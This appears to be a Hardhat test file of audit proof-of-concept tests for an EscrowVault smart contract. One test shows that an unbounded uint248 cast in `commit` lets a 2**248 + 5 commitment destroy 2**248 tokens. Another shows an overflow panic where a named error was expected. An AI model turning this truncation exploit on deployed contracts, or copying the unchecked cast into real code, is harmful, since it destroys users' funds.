// Attack (issue 11, item 9): `commit` added `uint248(amount)` to the market's pool without a
// bound. With a token whose supply passes 2**248, committing 2**248 + 5 debits the account
// 2**248 + 5 and credits the pool 5: the rest is destroyed (booked nowhere, held by the vault).
import { expect } from "chai";
import { network } from "hardhat";

const { ethers, networkHelpers } = await network.create();
const { loadFixture } = networkHelpers;
const MAX248 = 2n ** 248n - 1n;

async function hugeBalances() {
  const [owner, alice, market, other] = await ethers.getSigners();
  const btt = await ethers.deployContract("TestBTT", [owner!.address]);
  const vault = await ethers.deployContract("EscrowVault", [await btt.getAddress(), owner!.address]);
  const vaultAddress = await vault.getAddress();
  for (const m of [market!, other!]) await vault.setMarket(m.address, true);
  const amount = 2n ** 249n;
  await btt.mint(alice!.address, amount);
  await btt.connect(alice!).approve(vaultAddress, amount);
  await vault.connect(alice!).deposit(amount);
  for (const m of [market!, other!]) await vault.connect(alice!).setMarketApproval(m.address, true);
  return { btt, vault, vaultAddress, alice: alice!, market: market!, other: other! };
}

describe("attack: uint248 casts of held amounts", () => {
  it("PoC: commit(2**248 + 5) debits 2**248 + 5 and credits the pool 5", async () => {
    const { btt, vault, vaultAddress, alice, market } = await loadFixture(hugeBalances);
    const free = await vault.balanceOf(alice.address);
    await vault.connect(market).commit(alice.address, 2n ** 248n + 5n);
    const held = await vault.heldBy(market.address);
    const booked = (await vault.balanceOf(alice.address)) + held;
    const lost = (await btt.balanceOf(vaultAddress)) - booked;
    console.log(`      debited ${free - (await vault.balanceOf(alice.address))}, pool got ${held}, lost ${lost}`);
    expect(held).to.equal(5n);
    expect(lost).to.equal(2n ** 248n);
  });

  it("PoC: a pool that would pass 2**248 - 1 panics (arithmetic overflow) instead of a named error", async () => {
    const { vault, alice, market, other } = await loadFixture(hugeBalances);
    await vault.connect(market).commit(alice.address, MAX248);
    await vault.connect(other).commit(alice.address, 1n);
    await expect(vault.connect(other).transferHeld(market.address, 1n)).to.be.revertedWithPanic(0x11);
    await expect(vault.connect(market).commit(alice.address, 1n)).to.be.revertedWithPanic(0x11);
  });
});
